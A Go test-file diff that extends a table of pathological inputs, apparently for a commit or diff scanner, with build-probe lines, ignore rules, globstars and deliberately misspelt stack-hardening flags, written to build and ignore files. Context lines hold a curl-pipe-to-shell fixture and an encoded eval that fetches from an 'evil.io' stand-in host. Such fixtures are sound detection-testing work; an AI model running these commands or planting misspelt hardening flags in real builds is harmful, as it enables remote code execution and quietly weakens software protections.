@@ -152,6 +152,13 @@ var pathologicalInputs = []pathological{
 	{name: "pipes to shell lines", added: numbered("run: curl https://x%d.io/i | sh")},
 	{name: "exec chains", added: numbered(`eval(atob("ZmV0Y2goJ2h0dHBzOi8vZXZpbC5pby8nKQ%d"))`)},
 	{name: "minified", added: numbered("a%d=b;c=d}")},
+	{name: "nested probes", added: oneLine(`check_c_source_compiles("#include <linux/landlock.h> AC_LANG_SOURCE([`)},
+	{name: "probe programs", added: numbered("AC_COMPILE_IFELSE([AC_LANG_PROGRAM([[#include <seccomp.h> . %d]], [[return;]])])"),
+		deleted: numbered("AC_COMPILE_IFELSE([AC_LANG_PROGRAM([[#include <seccomp.h> %d]], [[return 0;]])])")},
+	{name: "ignore rules", added: numbered("/m4/x%d/*.m4 export-ignore"), deleted: numbered("scripts/s%d.sh")},
+	{name: "globstars", added: manyLines("**/a/**/b/**/c/**/*.m4")},
+	{name: "misspelt flags", added: numbered("  -fstack-protector-strnog -Wa,--noexcstack linux/landlok.h %d"),
+		deleted: numbered("  -fstack-protector-strong -Wa,--noexecstack linux/landlock.h %d")},
 }
 
 // pathologicalPaths are the files every input is written to, chosen so
@@ -161,6 +168,8 @@ var pathologicalInputs = []pathological{
 var pathologicalPaths = []string{
 	"keys/signer.js", ".github/workflows/ci.yml", "package.json", "Cargo.toml", "pyproject.toml",
 	"requirements.txt", "go.mod", "package-lock.json", ".npmrc", ".gitmodules", "deploy/run.sh",
+	// Build files whose feature probes are read, ignore files.
+	"CMakeLists.txt", "configure.ac", "meson.build", ".gitignore", ".gitattributes",
 }
 
 // pathologicalCommit writes the input, at about n bytes, to every path.
